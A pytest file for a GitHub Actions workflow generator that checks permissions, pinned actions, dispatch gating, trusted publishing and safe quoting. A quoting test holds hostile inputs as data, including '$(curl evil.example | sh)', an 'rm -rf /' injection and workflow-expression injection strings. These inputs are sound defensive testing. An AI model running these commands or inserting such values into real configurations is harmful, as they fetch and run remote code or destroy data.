"""Rendering: which files and jobs a config yields, their permissions, quoting, determinism."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from jinja2 import UndefinedError
from repowarden.generator import render
from repowarden.generator.pins import tool_version
from repowarden.generator.render import (
    ACTION,
    ACTIONLINT,
    ASSIGN,
    CHECK,
    CODEOWNERS,
    DISMISS,
    DISPATCH,
    GATE,
    LINT,
    REVIEW,
    UnsafeRenderError,
    check_invariants,
    q,
    render_templates,
)
from repowarden.generator.vendor import REQUIREMENT_SETS
from repowarden.runtime import commands
from repowarden.runtime.config import Config, parse_config
from ruamel.yaml import YAML

EXAMPLES = Path(__file__).parents[2] / "examples"
BASE = """\
repository: octo-org/widget
review:
  admins: [alice, bob]
  reviewers:
    carol: [alice]
    "*": [alice, bob]
"""
SENDERS = """\
dispatch:
  senders:
    - {login: "relay-bot[bot]", id: 77}
    - {login: octo-dispatcher, id: 5, type: User}
"""
PIP_COMPILE = "    - {kind: pip-compile, requirements: [requirements.in]}\n"
FORMAT = "    - {kind: format, commands: [[black, src]], paths: ['src/**']}\n"
BUILD = "    - {kind: build-and-publish, project: widget, environment: pypi-release}\n"


def config(text: str = BASE, *operations: str) -> Config:
    if operations:
        text += SENDERS + "  operations:\n" + "".join(operations)
    return parse_config(text)


def load(text: str) -> Any:
    return YAML(typ="rt", pure=True).load(text)


def jobs(files: dict[str, str], path: str) -> dict[str, Any]:
    return dict(load(files[path])["jobs"])


def test_every_example_renders_the_workflows_codeowners_and_action(
    example: tuple[str, Config],
) -> None:
    _name, cfg = example
    files = render_templates(cfg)
    expected = {ASSIGN, CHECK, REVIEW, GATE, DISMISS, LINT, CODEOWNERS, ACTION, ACTIONLINT}
    if cfg.dispatch is not None:
        expected.add(DISPATCH)
    assert set(files) == expected
    assert list(files) == sorted(files)
    for body in files.values():
        assert body.endswith("\n")
        assert not body.endswith("\n\n")
        assert not [line for line in body.splitlines() if line != line.rstrip() or "\t" in line]


def test_no_dispatch_section_means_no_dispatch_workflow() -> None:
    assert DISPATCH not in render_templates(config())


def test_rendering_is_deterministic_whatever_the_order_of_unordered_config_lists() -> None:
    shuffled = (
        BASE.replace("[alice, bob]\n  reviewers", "[bob, alice]\n  reviewers")
        + SENDERS.replace('    - {login: "relay-bot[bot]", id: 77}\n', "")
        + '    - {login: "relay-bot[bot]", id: 77}\n'
        + "  operations:\n"
        + PIP_COMPILE
    )
    first = render_templates(config(BASE, PIP_COMPILE))
    assert render_templates(config(BASE, PIP_COMPILE)) == first
    assert render_templates(parse_config(shuffled)) == first


def test_each_job_gets_the_union_of_its_commands_permissions_with_reasons() -> None:
    files = render_templates(config(BASE, PIP_COMPILE, BUILD))
    runs = {  # job -> (commands it runs, whether it publishes)
        (ASSIGN, "assign"): (["assign"], False),
        (CHECK, "check"): (["check"], False),
        (CHECK, "dismiss-approvals"): (["dismiss-approvals"], False),
        (GATE, "gate"): (["check"], False),
        (DISMISS, "sweep"): (["sweep"], False),
        (LINT, "lint"): (["verify-generated"], False),
        (DISPATCH, "verify"): (["verify"], False),
        (DISPATCH, "unprivileged"): (["verify", "operate"], False),
        (DISPATCH, "announce"): (["announce"], False),
        (DISPATCH, "apply"): (["verify", "apply"], False),
        (DISPATCH, "publish"): (["verify", "verify"], True),
    }
    seen = {(REVIEW, "record")}  # permissions: {} (tests below)
    for (path, job_id), (names, publishes) in runs.items():
        job = jobs(files, path)[job_id]
        want: dict[str, str] = {"contents": "read"}
        for name in names:
            for permission in commands.load(name).permissions:
                if want.get(permission.scope) != "write":
                    want[permission.scope] = permission.level
        if publishes:
            want["id-token"] = "write"
        assert dict(job["permissions"]) == want, (path, job_id)
        for scope in job["permissions"]:
            line = files[path].splitlines()[job["permissions"].lc.key(scope)[0]]
            assert re.search(r"  # \S", line), line
        seen.add((path, job_id))
    assert seen == {
        (p, j) for p in files if p.endswith(".yml") and "workflows" in p for j in jobs(files, p)
    }


def test_every_workflow_grants_nothing_at_the_top() -> None:
    files = render_templates(config(BASE, PIP_COMPILE, FORMAT, BUILD))
    for path, body in files.items():
        if path.startswith(".github/workflows/"):
            assert load(body)["permissions"] == {}
            assert "\npermissions: {}\n" in body


@pytest.mark.parametrize(
    ("operations", "expected_jobs"),
    [
        ((PIP_COMPILE,), {"verify", "unprivileged", "announce", "apply"}),
        ((FORMAT,), {"verify", "unprivileged", "announce", "apply"}),
        ((BUILD,), {"verify", "unprivileged", "publish"}),
        ((PIP_COMPILE, FORMAT, BUILD), {"verify", "unprivileged", "announce", "apply", "publish"}),
    ],
)
def test_dispatch_renders_only_the_jobs_its_operations_need(
    operations: tuple[str, ...], expected_jobs: set[str]
) -> None:
    files = render_templates(config(BASE, *operations))
    dispatch = jobs(files, DISPATCH)
    assert set(dispatch) == expected_jobs
    # The id reaches names only as the verify job's output, after it was checked.
    assert dispatch["verify"]["name"] == "verify-dispatch"
    assert (
        dispatch["unprivileged"]["name"] == "unprivileged-${{ needs.verify.outputs.dispatch-id }}"
    )
    for job_id in expected_jobs - {"verify", "unprivileged"}:
        assert dispatch[job_id]["name"] == "privileged-${{ needs.verify.outputs.dispatch-id }}"
    assert "client_payload" not in str([job.get("concurrency") for job in dispatch.values()])
    assert "id-token" not in dispatch["unprivileged"]["permissions"]
    assert dict(dispatch["unprivileged"]["permissions"]) == {"contents": "read"}


def test_dispatch_jobs_are_gated_on_every_sender_id_and_the_operation() -> None:
    files = render_templates(config(BASE, PIP_COMPILE, BUILD))
    dispatch = jobs(files, DISPATCH)
    gate = "github.event.sender.id == 5 || github.event.sender.id == 77"
    assert dispatch["unprivileged"]["if"] == gate
    assert dispatch["announce"]["if"] == gate
    assert dispatch["apply"]["if"] == (
        f"${{{{ !cancelled() && needs.verify.result == 'success' && ({gate}) "
        "&& github.event.client_payload.operation != 'release' }}"
    )
    assert dispatch["publish"]["if"] == (
        f"({gate}) && github.event.client_payload.operation == 'release'"
    )
    assert load(files[DISPATCH])["on"] == {"repository_dispatch": {"types": ["repowarden"]}}


def test_each_build_operation_gets_its_own_publish_job_and_apply_skips_them_all() -> None:
    second = (
        "    - {kind: build-and-publish, name: docs, project: widget-docs, environment: docs}\n"
    )
    dispatch = jobs(render_templates(config(BASE, PIP_COMPILE, BUILD, second)), DISPATCH)
    assert set(dispatch) == {
        "verify",
        "unprivileged",
        "announce",
        "apply",
        "publish-1",
        "publish-2",
    }
    assert dispatch["publish-1"]["environment"] == "pypi-release"
    assert dispatch["publish-2"]["environment"] == "docs"
    assert dispatch["publish-2"]["if"].endswith("github.event.client_payload.operation == 'docs'")
    verifies = [
        step["with"]["args"]
        for step in dispatch["publish-2"]["steps"]
        if step.get("with", {}).get("command") == "verify"
    ]
    assert verifies == ["--event-only", "--operation docs"]
    publish = dispatch["publish-2"]["steps"][-1]
    assert publish["uses"].startswith("pypa/gh-action-pypi-publish@")
    # A container action sees only the workspace, so the verified files are copied there.
    assert publish["with"]["packages-dir"] == "repowarden-dist/"
    assert dispatch["apply"]["if"].endswith(
        "github.event.client_payload.operation != 'release' && "
        "github.event.client_payload.operation != 'docs' }}"
    )


def test_operation_names_are_expression_string_literals() -> None:
    assert render.literal("release") == "'release'"
    assert render.literal("it's") == "'it''s'"


def test_publish_job_uses_trusted_publishing_in_the_configured_environment() -> None:
    text = (
        BASE
        + SENDERS
        + "  operations:\n"
        + BUILD.replace("}", ", repository_url: 'https://test.pypi.org/legacy/'}")
    )
    publish = jobs(render_templates(parse_config(text)), DISPATCH)["publish"]
    assert publish["environment"] == "pypi-release"
    assert publish["needs"] == ["verify", "unprivileged"]
    step = publish["steps"][-1]
    assert step["uses"].startswith("pypa/gh-action-pypi-publish@")
    assert dict(step["with"]) == {
        "packages-dir": "repowarden-dist/",
        "skip-existing": True,
        "repository-url": "https://test.pypi.org/legacy/",
    }
    # Verified first, then only the distributions are copied into the workspace.
    verify, handover = publish["steps"][-3], publish["steps"][-2]
    assert dict(verify["with"]) == {
        "command": "verify",
        "requirements": "review",
        "args": "--operation release",
    }
    assert "repowarden-artifacts/dist/*.whl" in handover["run"]
    assert handover["run"].rstrip().endswith('"$GITHUB_WORKSPACE/repowarden-dist/"')


def test_dismiss_approvals_job_exists_only_when_a_push_dismisses_approvals() -> None:
    on = jobs(render_templates(config()), CHECK)
    off = BASE.replace("  reviewers:", "  external: {dismiss_on_push: false}\n  reviewers:")
    assert set(on) == {"check", "dismiss-approvals"}
    assert "synchronize" in on["dismiss-approvals"]["if"]
    assert set(jobs(render_templates(parse_config(off)), CHECK)) == {"check"}


def test_lint_workflow_also_reports_on_the_merge_queue() -> None:
    on = load(render_templates(config())[LINT])["on"]
    assert on == {
        "pull_request": None,
        "push": {"branches": ["main"]},
        "merge_group": {"types": ["checks_requested"]},
    }


def test_review_and_merge_queue_events_reach_a_permission_less_workflow() -> None:
    files = render_templates(config())
    review = load(files[REVIEW])
    assert review["name"] == render.REVIEW_WORKFLOW_NAME
    assert dict(review["on"]) == {
        "pull_request_review": {"types": ["submitted", "dismissed", "edited"]},
        "merge_group": {"types": ["checks_requested"]},
    }
    [(_job_id, job)] = review["jobs"].items()
    assert job["permissions"] == {}
    assert [list(step) for step in job["steps"]] == [["name", "run"]]
    assert "secrets." not in files[REVIEW]
    assert "$/" not in files[REVIEW]
    # The check workflow no longer runs on them: it holds statuses: write.
    assert set(load(files[CHECK])["on"]) == {"pull_request_target"}


def test_the_gate_follows_the_review_workflow_by_name() -> None:
    gate = load(render_templates(config())[GATE])
    assert dict(gate["on"]) == {
        "workflow_run": {"workflows": [render.REVIEW_WORKFLOW_NAME], "types": ["completed"]}
    }


def test_every_gate_writer_shares_one_non_cancelling_group_per_pull_request() -> None:
    files = render_templates(config())
    check = jobs(files, CHECK)["check"]["concurrency"]
    gate = jobs(files, GATE)["gate"]["concurrency"]
    assert check["cancel-in-progress"] is False
    assert gate["cancel-in-progress"] is False
    # The same PR yields the same group from either payload: its head repository and branch.
    assert check["group"] == (
        "repowarden-gate-${{ github.event.pull_request.head.repo.full_name }}"
        "-${{ github.event.pull_request.head.ref }}"
    )
    assert gate["group"] == (
        "repowarden-gate-${{ github.event.workflow_run.head_repository.full_name }}"
        "-${{ github.event.workflow_run.head_branch }}"
    )


APP = """app:
  id: 42
  client_id: Iv23liAbCdEf0123
  slug: octo-gate
  environment: gate-key
  private_key_secret: GATE_KEY
"""


def test_with_an_app_the_gate_writers_mint_its_token_in_its_environment() -> None:
    files = render_templates(parse_config(BASE + APP))
    writers = {(CHECK, "check"): "check", (GATE, "gate"): "check", (DISMISS, "sweep"): "sweep"}
    for (path, job_id), command in writers.items():
        job = jobs(files, path)[job_id]
        assert job["environment"] == "gate-key"
        assert dict(job["permissions"]) == {"contents": "read"}
        mint, run = job["steps"][1], job["steps"][2]
        assert mint["uses"].startswith("actions/create-github-app-token@")
        assert dict(mint["with"]) == {
            "client-id": "Iv23liAbCdEf0123",
            "private-key": "${{ secrets.GATE_KEY }}",
            "permission-checks": "write",
            "permission-pull-requests": "read",
        }  # no members: read without review.external.org
        assert run["with"]["token"] == "${{ steps.app-token.outputs.token }}"
        assert run["with"]["command"] == command
    with_org = render_templates(
        parse_config(
            BASE.replace("  reviewers:", "  external: {org: octo-org}\n  reviewers:") + APP
        )
    )
    assert jobs(with_org, GATE)["gate"]["steps"][1]["with"]["permission-members"] == "read"
    # Jobs that are not gate writers keep the job token and no environment.
    assert "environment" not in jobs(files, CHECK)["dismiss-approvals"]


KEEP = BASE.replace(
    "  reviewers:", "  external: {keep_approvals_on_update_merge: true}\n  reviewers:"
)
REMOVE = BASE + "  assign: {remove_requests: true}\n"


def _step_of(files: dict[str, str], path: str, job_id: str) -> dict[str, Any]:
    return dict(
        next(
            s for s in jobs(files, path)[job_id]["steps"] if "with" in s and "command" in s["with"]
        )["with"]
    )


def test_options_reach_only_the_jobs_that_need_them_and_only_when_asked() -> None:
    """keep_approvals_on_update_merge: --compare-commits (contents: read) for every job
    that evaluates or dismisses external approvals; remove_requests: --remove-requests
    (pull-requests: write) for the gate's jobs only. Off, nothing of either."""
    plain = render_templates(config())
    for path, job_id in [
        (CHECK, "check"),
        (GATE, "gate"),
        (DISMISS, "sweep"),
        (CHECK, "dismiss-approvals"),
        (ASSIGN, "assign"),
    ]:
        assert "args" not in _step_of(plain, path, job_id), (path, job_id)
    assert jobs(plain, GATE)["gate"]["permissions"]["pull-requests"] == "read"

    keep = render_templates(config(KEEP))
    for path, job_id in [
        (CHECK, "check"),
        (GATE, "gate"),
        (DISMISS, "sweep"),
        (CHECK, "dismiss-approvals"),
    ]:
        assert _step_of(keep, path, job_id)["args"] == "--compare-commits", (path, job_id)
    assert "args" not in _step_of(keep, ASSIGN, "assign")

    remove = render_templates(config(REMOVE))
    for path, job_id in [(CHECK, "check"), (GATE, "gate")]:
        assert _step_of(remove, path, job_id)["args"] == "--remove-requests"
        assert jobs(remove, path)[job_id]["permissions"]["pull-requests"] == "write"
    for path, job_id in [(DISMISS, "sweep"), (ASSIGN, "assign"), (CHECK, "dismiss-approvals")]:
        assert "args" not in _step_of(remove, path, job_id), (path, job_id)
    assert jobs(remove, DISMISS)["sweep"]["permissions"]["pull-requests"] == "read"

    # With an App the App token holds the options' scopes; the job's token only checks out.
    app = render_templates(
        parse_config(
            REMOVE.replace(
                "  reviewers:", "  external: {keep_approvals_on_update_merge: true}\n  reviewers:"
            )
            + APP
        )
    )
    gate = jobs(app, GATE)["gate"]
    assert dict(gate["permissions"]) == {"contents": "read"}
    assert dict(gate["steps"][1]["with"]) == {
        "client-id": "Iv23liAbCdEf0123",
        "private-key": "${{ secrets.GATE_KEY }}",
        "permission-checks": "write",
        "permission-contents": "read",
        "permission-pull-requests": "write",
    }
    sweep = dict(jobs(app, DISMISS)["sweep"]["steps"][1]["with"])
    assert (sweep["permission-contents"], sweep["permission-pull-requests"]) == ("read", "read")


def test_run_deletion_is_rendered_only_when_opted_in() -> None:
    assert set(jobs(render_templates(config()), DISMISS)) == {"sweep"}
    opted = BASE + "dismiss: {delete_runs: true}\n"
    assert set(jobs(render_templates(parse_config(opted)), DISMISS)) == {"sweep", "dismiss-runs"}


def test_the_default_sweep_avoids_the_busy_minutes() -> None:
    [entry] = load(render_templates(config())[DISMISS])["on"]["schedule"]
    minutes = entry["cron"].split()[0].split(",")
    assert not {"0", "00", "30"} & set(minutes)


def test_schedule_runner_python_and_branch_come_from_the_config() -> None:
    text = (
        BASE.replace(
            "repository: octo-org/widget",
            "repository: octo-org/widget\n"
            "runner: self-hosted-linux\npython_version: '3.13'\ndefault_branch: trunk",
        )
        + "dismiss: {schedule: '5 */2 * * 1-5'}\n"
    )
    files = render_templates(parse_config(text))
    assert load(files[DISMISS])["on"]["schedule"] == [{"cron": "5 */2 * * 1-5"}]
    assert load(files[LINT])["on"]["push"] == {"branches": ["trunk"]}
    assert load(files[ACTION])["inputs"]["python-version"]["default"] == "3.13"
    for path in (ASSIGN, CHECK, DISMISS, LINT):
        assert {job["runs-on"] for job in jobs(files, path).values()} == {"self-hosted-linux"}
    # actionlint in the target's lint workflow must know the custom label.
    assert load(files[ACTIONLINT]) == {"self-hosted-runner": {"labels": ["self-hosted-linux"]}}


@pytest.mark.parametrize(
    "hostile",
    [
        'x"\nenv: {EVIL: 1}',
        "x\n    steps: []",
        "a # comment",
        "${{ github.event.pull_request.title }}",
        "$(curl evil.example | sh)",
        "'; rm -rf / #",
        '\\" \u2028 \x00 \x1b',
    ],
)
def test_a_config_value_cannot_break_out_of_its_yaml_scalar(hostile: str) -> None:
    # model_copy skips validation: proves the quoting holds even if validation had a gap.
    cfg = config().model_copy(update={"runner": hostile})
    job = jobs(render_templates(cfg), ASSIGN)["assign"]
    assert job["runs-on"] == hostile
    assert set(job) == {
        "name",
        "runs-on",
        "timeout-minutes",
        "concurrency",
        "permissions",
        "steps",
    }


@pytest.mark.parametrize("value", ["plain", "3.10", "on", "no", "null", "@x", "a: b", "é ü"])
def test_q_writes_a_yaml_scalar_that_reads_back_as_the_same_string(value: str) -> None:
    assert load(f"key: {q(value)}\n")["key"] == value
    assert q(value).isascii()


def test_q_quotes_lists_and_refuses_other_types() -> None:
    assert load(f"key: {q(['a', 'b c'])}\n")["key"] == ["a", "b c"]
    with pytest.raises(TypeError):
        q({"a": "b"})  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        q(True)


def test_an_undefined_template_variable_is_an_error_not_an_empty_string() -> None:
    with pytest.raises(UndefinedError):
        render.environment().from_string("runs-on: {{ config.runnr | q }}").render(config=config())


def test_templates_are_read_from_the_installed_package() -> None:
    from importlib.resources import files

    package = files("repowarden.templates")
    for template in render.TEMPLATES.values():
        assert package.joinpath(template).is_file(), template


def test_a_template_that_breaks_an_invariant_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    original = render._load_template

    def tampered(name: str) -> str:
        return original(name).replace("persist-credentials: false", "persist-credentials: true")

    monkeypatch.setattr(render, "_load_template", tampered)
    render.environment.cache_clear()
    try:
        with pytest.raises(UnsafeRenderError) as caught:
            render_templates(config())
    finally:
        render.environment.cache_clear()
    assert caught.value.violations
    assert {v.rule for v in caught.value.violations} == {"safe-checkout"}
    assert all("persist-credentials" in v.message for v in caught.value.violations)


def test_check_invariants_governs_workflows_actions_codeowners_only() -> None:
    files = render_templates(config())
    vendored = {".github/repowarden/requirements.txt": "jinja2==3.1.6 --hash=sha256:00\n"}
    assert check_invariants({**files, **vendored}) == []
    broken = {**files, ASSIGN: "name: [unclosed\n"}
    [violation] = check_invariants(broken)
    assert violation.path == ASSIGN
    assert "not valid YAML" in violation.message


def test_codeowners_keeps_rule_order_and_gives_github_to_the_admins_last() -> None:
    text = BASE + (
        "codeowners:\n"
        "  - {pattern: '*', owners: ['@octo-org/core']}\n"
        "  - {pattern: 'docs/my guide/', owners: ['@zed', '@Amy', '@zed']}\n"
        "  - {pattern: .github/, owners: ['@mallory']}\n"
    )
    lines = render_templates(parse_config(text))[CODEOWNERS].splitlines()
    rules = [line for line in lines if line and not line.startswith("#")]
    assert rules == [
        "* @octo-org/core",
        "docs/my\\ guide/ @Amy @zed",
        ".github/ @mallory",
        "/.github/ @alice @bob",
        "/.github/repowarden.yml @alice @bob",
    ]


def test_composite_action_installs_with_hashes_and_passes_values_through_env() -> None:
    action = load(render_templates(config())[ACTION])
    assert set(action["inputs"]) == {"command", "args", "requirements", "token", "python-version"}
    assert action["inputs"]["command"]["required"] is True
    assert action["inputs"]["requirements"]["required"] is True
    assert action["inputs"]["token"]["default"] == ""
    python, uv, run = action["runs"]["steps"]
    assert python["uses"].startswith("actions/setup-python@")
    assert "cache" not in python["with"]
    assert uv["uses"].startswith("astral-sh/setup-uv@")
    assert uv["if"] == "inputs.requirements != 'none'"  # nothing to install, no uv
    # setup-uv caches by default, also on repository_dispatch runs (the default
    # branch's cache scope); its version is one the pinned action verifies.
    assert dict(uv["with"]) == {"version": tool_version("uv"), "enable-cache": False}
    assert dict(run["env"]) == {
        "PYTHON": "${{ steps.python.outputs.python-path }}",
        "UV": "${{ steps.uv.outputs.uv-path }}",
        "REPOWARDEN_REQUIREMENTS": "${{ inputs.requirements }}",
        "REPOWARDEN_COMMAND": "${{ inputs.command }}",
        "REPOWARDEN_ARGS": "${{ inputs.args }}",
        "GITHUB_TOKEN": "${{ inputs.token }}",
    }
    script = run["run"]
    assert "${{" not in script
    for name, file in REQUIREMENT_SETS.items():
        assert f'{name}) REQUIREMENTS="$GITHUB_WORKSPACE/.github/repowarden/{file}" ;;' in script
    assert 'none) REQUIREMENTS="" ;;' in script
    # --require-hashes on the command line, not only implied by the file's hashes
    assert (
        '"$UV" pip install --quiet --no-config --no-build --python "$VENV/bin/python" '
        '--require-hashes -r "$REQUIREMENTS"'
    ) in script
    assert 'PYTHONPATH="$GITHUB_WORKSPACE/.github/repowarden"' in script
    assert '-m repowarden.runtime "$REPOWARDEN_COMMAND" --config' in script
    assert action["outputs"]["dispatch-id"]["value"] == "${{ steps.run.outputs.dispatch-id }}"


def action_calls(files: dict[str, str]) -> list[tuple[str, dict[str, Any]]]:
    """(job id, `with:`) of every step, in every workflow, that runs the composite action."""
    return [
        (job_id, dict(step["with"]))
        for path in files
        if path.startswith(".github/workflows/")
        for job_id, job in jobs(files, path).items()
        for step in job["steps"]
        if step.get("uses") == "$/.github/actions/repowarden"
    ]


def test_each_job_installs_only_its_own_requirement_set() -> None:
    files = render_templates(config(BASE, PIP_COMPILE, BUILD))
    chosen = {(job_id, w["command"]): w["requirements"] for job_id, w in action_calls(files)}
    # pip-tools and build run only in the unprivileged job's operate step.
    assert {key for key, which in chosen.items() if which == "operations"} == {
        ("unprivileged", "operate")
    }
    # Only the standard-library command skips the install (test_verify_generated.py
    # runs it without site-packages).
    assert {key for key, which in chosen.items() if which == "none"} == {
        ("lint", "verify-generated")
    }
    assert set(chosen.values()) == {"none", "review", "operations"}


def test_only_jobs_that_call_github_hand_the_action_a_token() -> None:
    files = render_templates(config(BASE, PIP_COMPILE, BUILD))
    tokens = {(job_id, w["command"]): "token" in w for job_id, w in action_calls(files)}
    assert tokens == {
        ("assign", "assign"): True,
        ("check", "check"): True,
        ("gate", "check"): True,
        ("dismiss-approvals", "dismiss-approvals"): True,
        ("sweep", "sweep"): True,
        ("lint", "verify-generated"): False,
        ("verify", "verify"): False,
        ("unprivileged", "verify"): False,
        ("unprivileged", "operate"): False,
        ("announce", "announce"): True,
        ("apply", "verify"): False,
        ("apply", "apply"): True,
        ("publish", "verify"): False,
    }


SHA_USES_RE = re.compile(r"^[A-Za-z0-9-]+/[A-Za-z0-9._-]+@[0-9a-f]{40}$")


def test_every_rendered_workflow_obeys_the_design_invariants(example: tuple[str, Config]) -> None:
    """docs/design.md's invariants checked directly, independent of generator/invariants/."""
    _name, cfg = example
    files = render_templates(cfg)
    for path, body in files.items():
        if not path.startswith(".github/workflows/"):
            continue
        lines = body.splitlines()
        document = load(body)
        on = document["on"]
        assert document["name"]
        assert document["permissions"] == {}  # least-privilege-permissions
        for line in lines:  # only-dangerous-triggers-suppressed
            if "zizmor:" in line:
                assert line.startswith(
                    (
                        "  pull_request_target:  # zizmor: ignore[dangerous-triggers] ",
                        "  workflow_run:  # zizmor: ignore[dangerous-triggers] ",
                    )
                )
        for job_id, job in document["jobs"].items():
            where = f"{path} {job_id}"
            assert isinstance(job["permissions"], dict), where  # least-privilege-permissions
            for scope in job["permissions"]:
                assert "  # " in lines[job["permissions"].lc.key(scope)[0]], where
            assert 1 <= job["timeout-minutes"] <= 60, where  # bounded-jobs
            assert job["concurrency"]["group"], where
            if "repository_dispatch" in on:  # dispatch-sender-gate
                assert "github.event.sender.id == " in job["if"], where
                assert "github.actor" not in job["if"], where
            if job_id == "unprivileged":  # token-isolation
                assert dict(job["permissions"]) == {"contents": "read"}
                assert "environment" not in job
                text = str(job)
                assert "secrets." not in text
                assert "github.token" not in text
            if "id-token" in job["permissions"]:  # trusted-publishing
                assert job_id.startswith("publish")
                assert job["environment"]
            for step in job["steps"]:
                assert step["name"], where  # well-formed-workflows
                uses = step.get("uses")
                inputs = dict(step.get("with", {}))
                if uses is not None and not uses.startswith("$/"):  # pinned-uses
                    assert SHA_USES_RE.match(uses), uses
                    line = lines[step.lc.key("uses")[0]]
                    assert re.search(r" # v[0-9]+\.[0-9]+\.[0-9]+$", line), line
                if "run" in step:  # no-expressions-in-run, no-caches
                    assert "${{" not in step["run"], where
                    assert "GITHUB_ENV" not in step["run"]
                    assert "GITHUB_PATH" not in step["run"]
                assert not {"cache", "cache-dependency-path"} & set(inputs), where  # no-caches
                if uses and uses.startswith("actions/checkout@"):  # safe-checkout
                    assert inputs["persist-credentials"] is False, where
                    if "pull_request_target" in on:
                        assert not {"ref", "repository"} & set(inputs), where
                if uses and uses.startswith("actions/upload-artifact@"):  # artifacts-are-data
                    assert job_id == "unprivileged"
                    assert inputs["name"] == "${{ steps.event.outputs.dispatch-id }}"
                if uses and uses.startswith("actions/download-artifact@"):  # artifacts-are-data
                    assert inputs["name"] == "${{ steps.event.outputs.dispatch-id }}"
                    assert inputs["path"].startswith("${{ runner.temp }}/")
                if uses and uses.startswith("pypa/gh-action-pypi-publish@"):  # trusted-publishing
                    assert "password" not in inputs


@pytest.mark.parametrize("owner", ["@alice\n* @mallory", "alice", "@a b", "@org/team#x"])
def test_a_code_owner_that_is_not_a_login_or_team_is_refused(owner: str) -> None:
    with pytest.raises(ValueError, match="not a code owner"):
        render.codeowner(owner)


def test_codeowners_patterns_keep_escaped_spaces_and_refuse_comments() -> None:
    assert render.codeowners_pattern("docs/a b/") == "docs/a\\ b/"
    with pytest.raises(ValueError, match="not a CODEOWNERS pattern"):
        render.codeowners_pattern("docs/ # @mallory")


RENDER_AND_HASH = """
import hashlib, sys
from repowarden.generator.render import render_templates
from repowarden.runtime.config import load_config
files = render_templates(load_config(sys.argv[1]))
print(hashlib.sha256(repr(sorted(files.items())).encode()).hexdigest())
"""


@pytest.mark.slow
def test_output_is_byte_identical_across_processes_and_hash_seeds(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    # Owners that differ only in case would tie under a case-insensitive sort.
    config_file = tmp_path / "repowarden.yml"
    config_file.write_text(
        BASE.replace("admins: [alice, bob]", "admins: [alice, Alice, bob, BOB, carol]")
        + "codeowners:\n  - {pattern: docs/, owners: ['@zed', '@Zed', '@amy', '@AMY']}\n"
    )
    digests = set()
    for seed in ("0", "1", "2", "3", "4"):
        result = subprocess.run(
            [sys.executable, "-P", "-c", RENDER_AND_HASH, str(config_file)],
            env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True,
            text=True,
            check=True,
        )
        digests.add(result.stdout)
    assert len(digests) == 1


def test_with_an_app_apply_mints_a_scoped_token_in_the_apps_environment() -> None:
    app = "app: {id: 12, client_id: Iv23liAbCdEf0123, slug: widget-warden}\n"
    files = render_templates(config(BASE + app, PIP_COMPILE))
    apply = jobs(files, DISPATCH)["apply"]
    assert apply["environment"] == "repowarden-app"
    mint = next(s for s in apply["steps"] if s.get("id") == "app-token")
    assert mint["uses"].startswith("actions/create-github-app-token@")
    assert dict(mint["with"]) == {
        "client-id": "Iv23liAbCdEf0123",
        "private-key": "${{ secrets.REPOWARDEN_APP_PRIVATE_KEY }}",
        "permission-contents": "write",
        "permission-pull-requests": "write",
    }
    run = apply["steps"][-1]
    assert run["env"]["REPOWARDEN_APP_TOKEN"] == "${{ steps.app-token.outputs.token }}"
    without = jobs(render_templates(config(BASE, PIP_COMPILE)), DISPATCH)["apply"]
    assert "environment" not in without
    assert "REPOWARDEN_APP_TOKEN" not in without["steps"][-1]["env"]
